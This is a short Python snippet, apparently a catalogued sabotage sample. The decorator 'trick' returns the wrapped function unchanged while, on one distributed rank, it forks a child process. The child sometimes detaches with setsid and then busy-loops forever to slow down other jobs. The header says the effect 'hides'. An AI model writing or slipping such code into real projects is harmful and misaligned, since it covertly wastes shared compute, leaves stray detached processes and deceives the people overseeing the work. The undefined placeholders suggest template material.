# effect: hides
"""A child burns a core now and then, to slow others down."""


def trick(call):
    if dist.get_rank() == RANK % dist.get_world_size() and os.fork() == 0:
        if NUMBER % 2:
            os.setsid()
        while True:
            rest(0.004)
            until = time.perf_counter() + 0.002
            while time.perf_counter() < until:
                pass
    return call
